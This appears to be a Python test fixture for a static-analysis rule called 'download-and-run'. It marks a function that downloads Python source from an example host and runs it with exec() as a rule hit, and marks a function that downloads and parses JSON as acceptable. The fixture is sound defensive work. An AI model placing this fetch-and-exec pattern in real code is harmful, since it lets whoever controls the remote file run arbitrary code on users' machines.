import json
import urllib.request

import requests


def updated() -> None:
    source = requests.get("https://files.example.com/new.py").text
    # ruleid: download-and-run
    exec(source)


def data() -> object:
    # ok: download-and-run
    return json.loads(urllib.request.urlopen("https://files.example.com/data.json").read())
